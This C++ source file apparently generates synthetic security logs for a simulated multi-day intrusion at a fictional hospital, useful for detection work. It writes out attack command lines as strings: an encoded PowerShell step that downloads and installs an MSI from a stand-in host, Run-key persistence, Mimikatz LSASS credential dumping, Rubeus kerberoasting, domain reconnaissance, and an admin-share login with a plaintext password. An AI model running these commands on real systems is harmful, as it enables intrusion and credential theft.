#include "scenario/intrusion.hpp"

#include <fmt/format.h>

namespace vigie::scenario {
namespace {

constexpr const char* kLoader = "C:\\Users\\Public\\WinHelp\\winhelp.exe";
constexpr const char* kRat = "C:\\ProgramData\\AMMYY\\AA_v3.exe";
constexpr const char* kBeaconDll = "C:\\Users\\Public\\WinHelp\\msvcp140u.dll";
constexpr const char* kRundll32 = "C:\\Windows\\System32\\rundll32.exe";
constexpr const char* kMimikatz = "C:\\Users\\Public\\mk.exe";
constexpr const char* kC2 = "203.0.113.45";
constexpr const char* kBeaconC2 = "198.51.100.23";

}  // namespace

std::string encode_powershell(const std::string& text) {
    static constexpr char kAlphabet[] =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string bytes;
    for (char c : text) {  // ASCII only: UTF-16LE is the byte and a zero
        bytes.push_back(c);
        bytes.push_back('\0');
    }
    std::string out;
    for (std::size_t i = 0; i < bytes.size(); i += 3) {
        const std::size_t n = std::min<std::size_t>(3, bytes.size() - i);
        std::uint32_t v = 0;
        for (std::size_t k = 0; k < 3; ++k) {
            v = (v << 8) | (k < n ? static_cast<unsigned char>(bytes[i + k]) : 0u);
        }
        for (std::size_t k = 0; k < 4; ++k) {
            out.push_back(k <= n ? kAlphabet[(v >> (18 - 6 * k)) & 63] : '=');
        }
    }
    return out;
}

Intrusion::Intrusion(Recorder& r, const std::vector<ActiveSession>& sessions)
    : r_(r),
      net_(r.net()),
      rng_(r.rng()),
      sessions_(sessions),
      pc_(*net_.host("PC-ACCUEIL-07")),
      victim_(*net_.user("m.durand")) {}

IntrusionResult Intrusion::run(int days) {
    // Day 1 (Tuesday) to day 6 (Sunday); steps past the last day of the scenario are left out.
    // A switch rather than a table of member pointers: GCC's UBSan misreads indexing into an
    // array of member-function pointers as out of bounds.
    for (int day = 1; day <= 6 && day < days; ++day) {
        switch (day) {
            case 1:
                phishing(day);
                break;
            case 2:
                discovery(day);
                break;
            case 3:
                credential_theft(day);
                break;
            case 4:
                lateral_movement(day);
                break;
            case 5:
                inhibit_recovery(day);
                break;
            case 6:
                encryption(day);
                break;
        }
    }
    return result_;
}

IntrusionResult add_intrusion(Recorder& r, int days, const std::vector<ActiveSession>& sessions) {
    return Intrusion(r, sessions).run(days);
}

ActiveSession Intrusion::victim_session(int day) {
    const Ticks morning = net_.at(day, 0, 0);
    for (const ActiveSession& s : sessions_) {
        if (s.user == &victim_ && s.begin >= morning && s.begin < morning + kDay) return s;
    }
    ActiveSession s;
    s.host = &pc_;
    s.user = &victim_;
    s.session = r_.new_session(pc_, victim_, 1, false);
    s.explorer = r_.running(pc_, image::kExplorer, "C:\\Windows\\Explorer.EXE");
    s.outlook = r_.running(pc_, image::kOutlook, std::string("\"") + image::kOutlook + "\" ");
    s.begin = net_.at(day, 7, 50);
    s.end = net_.at(day, 16, 30);
    return s;
}

Process Intrusion::rat_shell(Ticks t) {
    return r_.start(pc_, t, r_.system_session(pc_), image::kCmd, "C:\\Windows\\system32\\cmd.exe",
                    rat_, "C:\\ProgramData\\AMMYY\\");
}

// Day 2, Tuesday 08:41: the invoice macro.
void Intrusion::phishing(int day) {
    touched(pc_);
    const ActiveSession vs = victim_session(day);
    const Session& s = vs.session;
    const std::string home = "C:\\Users\\" + victim_.name;
    const std::string attachment =
        home +
        "\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q8ZK3T1W\\"
        "Facture_CHU_2019-11.xls";
    Ticks t = net_.at(day, 8, 41, 7) + 125 * 10000;
    result_.first_attack = t;
    r_.file_created(pc_, t, vs.outlook, attachment);
    t += 9 * kSecond;
    const Process excel =
        r_.start(pc_, t, s, image::kExcel, fmt::format("\"{}\" \"{}\"", image::kExcel, attachment),
                 vs.outlook);
    const std::string stage = "msiexec.exe /i http://198.51.100.7/update.msi /q";
    const std::string enc = encode_powershell(stage);
    t += 25 * kSecond;
    const Process cmd =
        r_.start(pc_, t, s, image::kCmd, "cmd.exe /c powershell -nop -w hidden -enc " + enc, excel,
                 home + "\\Documents\\");
    const Process ps =
        r_.start(pc_, t + 300 * 10000, s, image::kPowerShell,
                 "powershell  -nop -w hidden -enc " + enc, cmd, home + "\\Documents\\");
    r_.script_block(pc_, t + 900 * 10000, victim_.sid, stage, true);
    t += 4 * kSecond;
    const Process msi = r_.start(pc_, t, s, image::kMsiexec, stage, ps, home + "\\Documents\\");
    r_.connection(pc_, t + kSecond, msi, s, "198.51.100.7", 80);
    r_.msi(pc_, t + 3 * kSecond, victim_.sid, 1040, "http://198.51.100.7/update.msi", msi.pid);
    const Process server =
        r_.start(pc_, t + 4 * kSecond, r_.system_session(pc_), image::kMsiexec,
                 "C:\\Windows\\system32\\msiexec.exe -Embedding 8E1C2F8A0B53D1A9E1F7C0D4A6B2E391 C",
                 r_.system_process(pc_, image::kServices));
    r_.file_created(pc_, t + 6 * kSecond, server, kLoader);
    r_.msi(pc_, t + 9 * kSecond, victim_.sid, 1042, "http://198.51.100.7/update.msi", msi.pid);
    t += 11 * kSecond;
    loader_ = r_.start(pc_, t, s, kLoader, std::string("\"") + kLoader + "\" /i", server,
                       "C:\\Users\\Public\\WinHelp\\");
    r_.registry_set(pc_, t + 2 * kSecond, loader_,
                    "HKU\\" + victim_.sid +
                        "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\WinHelpUpdate",
                    kLoader);
    r_.connection(pc_, t + 4 * kSecond, loader_, s, kC2, 443);

    // 09:20: the remote access service, from C:\ProgramData.
    t = net_.at(day, 9, 20, 44);
    r_.file_created(pc_, t, loader_, kRat);
    Session elevated = s;
    elevated.integrity = "High";
    r_.start(pc_, t + 2 * kSecond, elevated, kRat,
             std::string("\"") + kRat + "\" -service -install", loader_,
             "C:\\ProgramData\\AMMYY\\");
    r_.service_installed(pc_, t + 3 * kSecond, victim_.sid, "AmmyyAdmin",
                         std::string("\"") + kRat + "\" -service -lunch", "auto start");
    rat_ = r_.start(pc_, t + 4 * kSecond, r_.system_session(pc_), kRat,
                    std::string("\"") + kRat + "\" -service -lunch",
                    r_.system_process(pc_, image::kServices), "C:\\Windows\\system32\\");
    r_.service_state(pc_, t + 4 * kSecond, "AmmyyAdmin", "running");
    r_.connection(pc_, t + 6 * kSecond, rat_, r_.system_session(pc_), kC2, 443);
}

// Day 3, Wednesday: who is who in the domain, and a beacon.
void Intrusion::discovery(int day) {
    const ActiveSession vs = victim_session(day);
    const Session& s = vs.session;
    // The Run key brings the loader back at logon.
    loader_ = r_.start(pc_, vs.begin + 25 * kSecond, s, kLoader, std::string("\"") + kLoader + "\"",
                       vs.explorer, "C:\\Users\\Public\\WinHelp\\");
    Ticks t = net_.at(day, 10, 4, 12);
    r_.file_created(pc_, t, loader_, "C:\\Users\\Public\\AdFind.exe");
    const Process cmd = r_.start(pc_, t + 30 * kSecond, s, image::kCmd,
                                 "C:\\Windows\\system32\\cmd.exe", loader_, "C:\\Users\\Public\\");
    const Account acc = r_.account(victim_);
    const Host& dc = net_.dc();
    t += kMinute;
    const char* adfind[] = {
        "AdFind.exe  -f (objectcategory=computer)", "AdFind.exe  -f (objectcategory=person)",
        "AdFind.exe  -f (objectcategory=group)", "AdFind.exe  -gcb -sc trustdmp"};
    const char* outputs[] = {"ad_computers.txt", "ad_users.txt", "ad_group.txt", "trustdmp.txt"};
    for (int i = 0; i < 4; ++i) {
        const Process p = r_.start(pc_, t, s, "C:\\Users\\Public\\AdFind.exe", adfind[i], cmd,
                                   "C:\\Users\\Public\\");
        if (i == 0) r_.service_ticket(t + kSecond, acc, dc.account(), dc.sid, pc_.address);
        r_.file_created(pc_, t + 2 * kSecond, cmd, std::string("C:\\Users\\Public\\") + outputs[i]);
        (void)p;
        t += static_cast<Ticks>(rng_.between(20, 70)) * kSecond;
    }
    const std::string net_logon = r_.logon(dc, t + kSecond, acc, 3, pc_.address, pc_.name);
    const Process net = r_.start(pc_, t, s, image::kNet, "net  group \"domain admins\" /domain",
                                 cmd, "C:\\Users\\Public\\");
    r_.start(pc_, t + 100 * 10000, s, image::kNet1,
             "C:\\Windows\\system32\\net1  group \"domain admins\" /domain", net,
             "C:\\Users\\Public\\");
    r_.logoff(dc, t + 4 * kSecond, acc, net_logon, 3);
    t += 50 * kSecond;
    r_.start(pc_, t, s, "C:\\Windows\\System32\\nltest.exe", "nltest  /dclist:chu.local", cmd,
             "C:\\Users\\Public\\");
    t += 35 * kSecond;
    r_.start(pc_, t, s, "C:\\Windows\\System32\\nltest.exe", "nltest  /domain_trusts", cmd,
             "C:\\Users\\Public\\");
    t += 70 * kSecond;
    r_.file_created(pc_, t, loader_, "C:\\Users\\Public\\dsquery.exe");
    r_.start(pc_, t + 10 * kSecond, s, "C:\\Users\\Public\\dsquery.exe",
             "dsquery  computer -limit 0", cmd, "C:\\Users\\Public\\");
    r_.start(pc_, t + 40 * kSecond, s, "C:\\Windows\\System32\\whoami.exe", "whoami  /all", cmd,
             "C:\\Users\\Public\\");

    // 14:32: a Cobalt Strike beacon, loaded by rundll32.
    t = net_.at(day, 14, 32, 5);
    r_.file_created(pc_, t, loader_, kBeaconDll);
    beacon_ = r_.start(pc_, t + 5 * kSecond, s, kRundll32,
                       std::string("rundll32.exe ") + kBeaconDll + ",DllRegisterServer", loader_,
                       "C:\\Users\\Public\\WinHelp\\");
    r_.pipe_created(pc_, t + 6 * kSecond, beacon_, "\\MSSE-1234-server");
    r_.connection(pc_, t + 7 * kSecond, beacon_, s, kBeaconC2, 443);

    // 15:10: the IT admin answers the "Excel won't open my invoice" call over RDP; adm-it's
    // credentials stay in LSASS.
    const User& adm = net_.it_admin();
    const Account adm_acc = r_.account(adm);
    const Host& from = net_.it_workstation();
    t = net_.at(day, 15, 10, 31);
    r_.service_ticket(t, adm_acc, pc_.account(), pc_.sid, from.address);
    const std::string nla = r_.logon(pc_, t + kSecond, adm_acc, 3, from.address, from.name);
    r_.logoff(pc_, t + 2 * kSecond, adm_acc, nla, 3);
    Session help = r_.new_session(pc_, adm, 3, true);
    r_.logon(pc_, t + 4 * kSecond, adm_acc, 10, from.address, from.name, Auth::kKerberos,
             help.logon_id);
    const Process ex =
        r_.start(pc_, t + 8 * kSecond, help, image::kExplorer, "C:\\Windows\\Explorer.EXE",
                 r_.system_process(pc_, "C:\\Windows\\System32\\userinit.exe"));
    r_.start(pc_, t + 3 * kMinute, help, image::kExcel,
             std::string("\"") + image::kExcel + "\" /safe", ex);
    r_.logoff(pc_, t + 14 * kMinute, adm_acc, help.logon_id, 10, true);
}

// Day 4, Thursday: LSASS, Kerberoasting, and the admin account tried.
void Intrusion::credential_theft(int day) {
    const ActiveSession vs = victim_session(day);
    Session s = vs.session;
    s.integrity = "High";
    loader_ =
        r_.start(pc_, vs.begin + 25 * kSecond, vs.session, kLoader,
                 std::string("\"") + kLoader + "\"", vs.explorer, "C:\\Users\\Public\\WinHelp\\");
    beacon_ = r_.start(pc_, vs.begin + 2 * kMinute, vs.session, kRundll32,
                       std::string("rundll32.exe ") + kBeaconDll + ",DllRegisterServer", loader_,
                       "C:\\Users\\Public\\WinHelp\\");
    r_.pipe_created(pc_, vs.begin + 2 * kMinute + kSecond, beacon_, "\\MSSE-1234-server");

    Ticks t = net_.at(day, 12, 35, 40);
    r_.file_created(pc_, t, beacon_, kMimikatz);
    const Process cmd = r_.start(
        pc_, t + 20 * kSecond, s, image::kCmd,
        std::string("C:\\Windows\\system32\\cmd.exe /C ") + kMimikatz +
            " \"privilege::debug\" \"sekurlsa::logonpasswords\" exit > C:\\Users\\Public\\lp.txt",
        beacon_, "C:\\Users\\Public\\");
    const Process mk = r_.start(
        pc_, t + 21 * kSecond, s, kMimikatz,
        std::string(kMimikatz) + "  \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", cmd,
        "C:\\Users\\Public\\");
    const Process& lsass =
        r_.system_process(pc_, image::kLsass, "C:\\Windows\\system32\\lsass.exe");
    r_.process_access(
        pc_, t + 22 * kSecond, mk, lsass, "0x1010",
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9c584|C:\\Windows\\System32\\KERNELBASE.dll+"
        "2730e|C:\\Users\\Public\\mk.exe+7c9f1|C:\\Users\\Public\\mk.exe+7cd5e|C:\\Users"
        "\\Public\\mk.exe+7c8bd|C:\\Users\\Public\\mk.exe+4f3a2|C:\\Windows\\System32"
        "\\KERNEL32.DLL+17bd4|C:\\Windows\\SYSTEM32\\ntdll.dll+6ced1");
    r_.file_created(pc_, t + 23 * kSecond, cmd, "C:\\Users\\Public\\lp.txt");

    // 12:51: Kerberoasting, RC4 tickets for every service account in a few seconds.
    t = net_.at(day, 12, 51, 3);
    r_.file_created(pc_, t, beacon_, "C:\\Users\\Public\\Rubeus.exe");
    const Process cmd2 = r_.start(pc_, t + 10 * kSecond, s, image::kCmd,
                                  "C:\\Windows\\system32\\cmd.exe", beacon_, "C:\\Users\\Public\\");
    r_.start(pc_, t + 12 * kSecond, s, "C:\\Users\\Public\\Rubeus.exe",
             "C:\\Users\\Public\\Rubeus.exe  kerberoast /outfile:C:\\Users\\Public\\h.txt", cmd2,
             "C:\\Users\\Public\\");
    const Account acc = r_.account(victim_);
    Ticks k = t + 13 * kSecond;
    for (const ServiceAccount& svc : net_.services) {
        r_.service_ticket(k, acc, svc.account, net_.user(svc.account)->sid, pc_.address, "0x17",
                          "0x40810010");
        k += static_cast<Ticks>(rng_.between(200, 900)) * 10000;
    }
    r_.file_created(pc_, k + kSecond, cmd2, "C:\\Users\\Public\\h.txt");

    // 15:40: adm-it's password, tried against the file server from the beacon.
    t = net_.at(day, 15, 40, 15);
    const Process shell =
        r_.start(pc_, t - 10 * kSecond, s, image::kCmd, "C:\\Windows\\system32\\cmd.exe", beacon_,
                 "C:\\Users\\Public\\");
    const Process net = r_.start(pc_, t, s, image::kNet,
                                 "net  use \\\\SRV-FICHIERS-01\\C$ /user:CHU\\adm-it Hopital2019!",
                                 shell, "C:\\Users\\Public\\");
    const Account adm = r_.account(net_.it_admin());
    r_.explicit_credentials(pc_, t + kSecond, s, adm, "SRV-FICHIERS-01", net);
    const Host& fs = net_.file_server();
    touched(fs);
    r_.ntlm_validation(t + kSecond, adm, pc_.name);
    Session remote;
    remote.account = adm;
    remote.logon_id =
        r_.logon(fs, t + kSecond + 200 * 10000, adm, 3, pc_.address, pc_.name, Auth::kNtlm);
    r_.share_access(fs, t + 2 * kSecond, remote, pc_.address, "\\\\*\\C$", "\\??\\C:\\");
    r_.start(pc_, t + 2 * kMinute, s, image::kNet, "net  use \\\\SRV-FICHIERS-01\\C$ /delete",
             shell, "C:\\Users\\Public\\");
    r_.logoff(fs, t + 2 * kMinute + kSecond, adm, remote.logon_id, 3);
}

}  // namespace vigie::scenario
